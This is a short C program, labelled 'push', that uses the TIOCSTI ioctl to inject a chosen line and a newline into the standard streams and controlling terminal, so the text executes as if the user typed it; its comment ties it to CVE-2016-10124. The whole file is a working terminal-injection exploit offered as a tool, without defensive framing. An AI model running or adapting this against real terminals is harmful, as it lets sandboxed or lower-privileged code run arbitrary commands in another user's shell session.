// SPDX-License-Identifier: Apache-2.0
// push TEXT: types a line into every terminal that it can reach, as if the user had (CVE-2016-10124).
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void type(int terminal, const char *text) {
    for (const char *letter = text; *letter; letter++) ioctl(terminal, TIOCSTI, letter);
    ioctl(terminal, TIOCSTI, "\n");
}

int main(int count, char **words) {
    if (count != 2) return 2;
    for (int stream = 0; stream < 3; stream++) type(stream, words[1]);
    int own = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (own >= 0) type(own, words[1]);
    return 0;
}
